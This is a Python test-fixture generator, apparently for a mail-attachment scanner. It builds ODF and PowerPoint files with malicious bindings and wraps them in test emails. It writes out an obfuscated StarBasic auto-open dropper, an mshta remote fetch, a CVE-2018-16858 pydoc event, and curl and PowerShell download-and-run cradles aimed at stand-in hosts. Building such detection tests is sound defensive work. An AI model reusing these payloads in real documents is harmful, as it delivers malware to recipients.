#!/usr/bin/env python3
"""make_odf.py - the OpenDocument and PowerPoint test files of issue 18
(ODF macros and event bindings, presentation actions that run programs),
written with the standard library only, and the functional-test mails that
carry them (tests/functional/cases/odf_*.eml and ppt_*.eml).

usage: make_odf.py [--files DIR] [CASES_DIR]

Every file is a real package as the office suites write it: an ODF file is
a ZIP whose first member is "mimetype", stored, with META-INF/manifest.xml
listing every other member (ODF 1.3 part 3, 3.2 and 3.8); a StarBasic
module is Basic/<library>/<module>.xml with the libraries listed in
Basic/script-lc.xml and Basic/<library>/script-lb.xml, as LibreOffice
saves them.  A .pptx is an OPC package (ECMA-376 part 2) with one slide
whose shape carries <a:hlinkClick>/<a:hlinkMouseOver> (part 1, 21.1.2.3.5)
and the hyperlink relationship its r:id names.  Dates in the ZIPs are
fixed, so the files and the mails are the same on every run; --files
also writes the bare documents (for the fuzz corpora).

The .eml files are written; their .expect.json are kept by hand (what a
correct scan reports).
"""
import base64
import os
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
CASES = os.path.join(HERE, "..", "functional", "cases")
DATE = (2026, 12, 1, 9, 0, 0)

ODF_MIME = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}

NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
      'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
      'xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
      'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
      'xmlns:ooo="http://openoffice.org/2004/office"')


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
        '"', "&quot;")


def zip_bytes(members):
    """A ZIP of (name, bytes, stored) in order, with fixed dates."""
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, stored in members:
            zi = zipfile.ZipInfo(name, DATE)
            zi.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def odf(kind, body, scripts="", modules=None):
    """An ODF package of kind (odt, ods, odp): body is the office:body
    content, scripts the office:scripts content, modules a dict
    {library: {module: StarBasic source}}."""
    mime = ODF_MIME[kind]
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               f'<office:document-content {NS} office:version="1.3">'
               f'<office:scripts>{scripts}</office:scripts>'
               f'<office:body>{body}</office:body></office:document-content>')
    styles = ('<?xml version="1.0" encoding="UTF-8"?>\n'
              f'<office:document-styles {NS} office:version="1.3"><office:styles/>'
              '</office:document-styles>')
    meta = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
            'office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
            'office:version="1.3"><office:meta><meta:generator>mamori tests</meta:generator>'
            '</office:meta></office:document-meta>')
    members = [("content.xml", content), ("styles.xml", styles), ("meta.xml", meta)]
    if modules:
        libs = "".join(f'<library:library library:name="{lib}" library:link="false"/>'
                       for lib in modules)
        members.append(("Basic/script-lc.xml",
                        '<?xml version="1.0" encoding="UTF-8"?>\n'
                        '<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD '
                        'OfficeDocument 1.0//EN" "libraries.dtd">\n'
                        '<library:libraries xmlns:library="http://openoffice.org/2000/library"'
                        ' xmlns:xlink="http://www.w3.org/1999/xlink">'
                        f'{libs}</library:libraries>'))
        for lib, mods in modules.items():
            elems = "".join(f'<library:element library:name="{m}"/>' for m in mods)
            members.append((f"Basic/{lib}/script-lb.xml",
                            '<?xml version="1.0" encoding="UTF-8"?>\n'
                            '<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD '
                            'OfficeDocument 1.0//EN" "library.dtd">\n'
                            '<library:library xmlns:library="http://openoffice.org/2000/library"'
                            f' library:name="{lib}" library:readonly="false" '
                            f'library:passwordprotected="false">{elems}</library:library>'))
            for m, src in mods.items():
                members.append((f"Basic/{lib}/{m}.xml",
                                '<?xml version="1.0" encoding="UTF-8"?>\n'
                                '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD '
                                'OfficeDocument 1.0//EN" "module.dtd">\n'
                                '<script:module xmlns:script="http://openoffice.org/2000/script"'
                                f' script:name="{m}" script:language="StarBasic" '
                                f'script:moduleType="normal">{xml_escape(src)}</script:module>'))
    entries = "".join(f'<manifest:file-entry manifest:full-path="{n}" '
                      'manifest:media-type="text/xml"/>' for n, _ in members)
    if modules:
        entries += ('<manifest:file-entry manifest:full-path="Basic/" '
                    'manifest:media-type="application/binary"/>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
                'manifest:1.0" manifest:version="1.3">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
                f'{entries}</manifest:manifest>')
    return zip_bytes([("mimetype", mime.encode(), True)] +
                     [(n, d.encode(), False) for n, d in members] +
                     [("META-INF/manifest.xml", manifest.encode(), False)])


def check_odf(data):
    """What an ODF consumer checks first: mimetype first and stored, every
    member in the manifest, every manifest entry present."""
    import io
    import xml.etree.ElementTree as ET
    z = zipfile.ZipFile(io.BytesIO(data))
    infos = z.infolist()
    assert infos[0].filename == "mimetype" and infos[0].compress_type == zipfile.ZIP_STORED
    m = ET.fromstring(z.read("META-INF/manifest.xml"))
    ns = "{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}"
    listed = {e.get(ns + "full-path") for e in m.iter(ns + "file-entry")}
    names = {i.filename for i in infos} - {"mimetype", "META-INF/manifest.xml"}
    assert names <= listed, names - listed
    assert all(p in names or p.endswith("/") for p in listed), listed - names
    for n in names:
        ET.fromstring(z.read(n))    # well-formed


def event(name, href):
    return (f'<office:event-listeners><script:event-listener script:language="ooo:script" '
            f'script:event-name="{name}" xlink:href="{xml_escape(href)}" xlink:type="simple"/>'
            '</office:event-listeners>')


# A dropper module: the host is made of Chr() codes and a reversed string,
# the command run through Shell().
DROPPER = """REM  *****  BASIC  *****

Sub AutoOpen
	Dim h As String, u As String, c As String
	h = Chr(117) & Chr(112) & Chr(100) & "." & StrReverse("elpmaxe.tsohbew")
	u = "https://" & h & "/dl/inv.exe"
	c = Chr(112) & "owershell -w hidden -c " & Chr(34) & "iwr " & u & " -OutFile $env:TEMP\\inv.exe; start $env:TEMP\\inv.exe" & Chr(34)
	Shell(c, 0)
End Sub
"""

# An ordinary spreadsheet macro: sums a column, no binding.
SUMMER = """REM  *****  BASIC  *****

Sub SumColumn
	Dim s As Double, i As Integer
	Dim sh As Object
	sh = ThisComponent.Sheets.getByIndex(0)
	For i = 0 To 9
		s = s + sh.getCellByPosition(0, i).getValue()
	Next i
	sh.getCellByPosition(1, 0).setValue(s)
End Sub
"""

TEXT_BODY = ('<office:text><text:p>請求書を添付いたします。ご確認ください。</text:p>'
             '</office:text>')
SHEET_BODY = ('<office:spreadsheet><table:table table:name="Sheet1"><table:table-row>'
              '<table:table-cell><text:p>1</text:p></table:table-cell></table:table-row>'
              '</table:table></office:spreadsheet>')

# A presentation: a shape that runs a program on click (presentation:action
# execute), and one whose mouse-over runs a Python script of the
# installation with arguments of its own (the CVE-2018-16858 form).
PRES_BODY = (
    '<office:presentation><draw:page draw:name="page1">'
    '<draw:custom-shape svg:width="28cm" svg:height="21cm"><office:event-listeners>'
    '<presentation:event-listener script:event-name="dom:click" presentation:action="execute"'
    ' xlink:href="C:\\Windows\\System32\\mshta.exe http://198.51.100.30/p.hta"'
    ' xlink:type="simple"/></office:event-listeners><text:p>Click to view</text:p>'
    '</draw:custom-shape><draw:custom-shape><office:event-listeners>'
    '<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover"'
    ' xlink:href="vnd.sun.star.script:../../../program/python-core-3.5.5/lib/pydoc.py'
    '$tempfilepager(1, calc.exe )?language=Python&amp;location=share" xlink:type="simple"/>'
    '</office:event-listeners></draw:custom-shape></draw:page></office:presentation>')


def odf_cases():
    return {
        "odf_basic_autoexec_dropper": ("請求書_1207.odt", odf(
            "odt", TEXT_BODY,
            event("office:load",
                  "vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&location=document"),
            {"Standard": {"Module1": DROPPER}})),
        "odf_basic_macro_no_event": ("集計.ods", odf(
            "ods", SHEET_BODY, "", {"Standard": {"Module1": SUMMER}})),
        "odf_clean": ("議事録.odt", odf("odt", TEXT_BODY)),
        "odf_presentation_actions": ("製品紹介.odp", odf("odp", PRES_BODY)),
        "odf_event_macro_shell": ("見積書.odt", odf(
            "odt", TEXT_BODY,
            event("office:load-finished",
                  'macro:shell("cmd /c curl -o %TEMP%\\a.exe http://198.51.100.7/a.exe")'
                  .replace('"', "%22").replace(" ", "%20")))),
    }


# ---- PowerPoint ----

PPT_CT = {
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "ppsx": "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
}
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def pptx(kind, hlink, target):
    """A one-slide presentation (kind pptx or ppsx) whose shape carries
    hlink (an a:hlinkClick or a:hlinkMouseOver element naming rId2), and
    rId2 an external hyperlink relationship to target (None: none)."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          f'<Override PartName="/ppt/presentation.xml" ContentType="{PPT_CT[kind]}"/>'
          '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/'
          'vnd.openxmlformats-officedocument.presentationml.slide+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="ppt/presentation.xml"/>'
            '</Relationships>')
    pres = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<p:presentation xmlns:a="{A_NS}" xmlns:r="{R_NS}" xmlns:p="{P_NS}">'
            '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>')
    pres_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.'
                 'org/officeDocument/2006/relationships/slide" Target="slides/slide1.xml"/>'
                 '</Relationships>')
    slide = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             f'<p:sld xmlns:a="{A_NS}" xmlns:r="{R_NS}" xmlns:p="{P_NS}"><p:cSld><p:spTree>'
             '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
             '<p:grpSpPr/><p:sp><p:nvSpPr>'
             f'<p:cNvPr id="2" name="Title 1">{hlink}</p:cNvPr>'
             '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r>'
             '<a:t>Loading, please wait...</a:t></a:r></a:p></p:txBody></p:sp>'
             '</p:spTree></p:cSld></p:sld>')
    rel = ""
    if target is not None:
        rel = (f'<Relationship Id="rId2" Type="{R_NS}/hyperlink" '
               f'Target="{xml_escape(target)}" TargetMode="External"/>')
    slide_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                  f'relationships">{rel}</Relationships>')
    return zip_bytes([(n, d.encode(), False) for n, d in [
        ("[Content_Types].xml", ct), ("_rels/.rels", rels), ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", pres_rels), ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", slide_rels)]])


def ppt_cases():
    ps = ("powershell -NoP -NonI -W Hidden -Exec Bypass -c \"IEX (New-Object "
          "Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')\"")
    return {
        "ppt_click_run_program": ("提案資料.pptx", pptx(
            "pptx", '<a:hlinkClick r:id="rId2" action="ppaction://program"/>',
            "file:///C:\\Windows\\System32\\cmd.exe")),
        "ppt_mouseover_run_program": ("order.ppsx", pptx(
            "ppsx", '<a:hlinkMouseOver r:id="rId2" action="ppaction://program"/>', ps)),
        "ppt_clean_web_link": ("会社案内.pptx", pptx(
            "pptx", '<a:hlinkClick r:id="rId2"/>', "https://www.example.co.jp/company/")),
    }


def eml(case, name, data):
    """A small mail carrying name (RFC 2231 for the non-ASCII name)."""
    from email.message import EmailMessage
    m = EmailMessage()
    m["From"] = "Sales <sales@example.net>"
    m["To"] = "tanaka@example.co.jp"
    m["Subject"] = f"document {case}"
    m["Date"] = "Tue, 08 Dec 2026 10:00:00 +0900"
    m["Message-ID"] = f"<{case}@example.net>"
    m.set_content("資料をお送りします。\n", charset="utf-8")
    m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    # a fixed boundary, so that the mail is the same on every run
    m.set_boundary("=_mamori_" + case)
    return m.as_bytes()


def main(argv):
    files = None
    if len(argv) > 2 and argv[1] == "--files":
        files = argv[2]
        argv = argv[:1] + argv[3:]
    out = argv[1] if len(argv) > 1 else CASES
    cases = dict(odf_cases())
    for case, (name, data) in cases.items():
        check_odf(data)
    cases.update(ppt_cases())
    for case, (name, data) in sorted(cases.items()):
        with open(os.path.join(out, case + ".eml"), "wb") as f:
            f.write(eml(case, name, data))
        if files is not None:
            with open(os.path.join(files, case + os.path.splitext(name)[1]), "wb") as f:
                f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
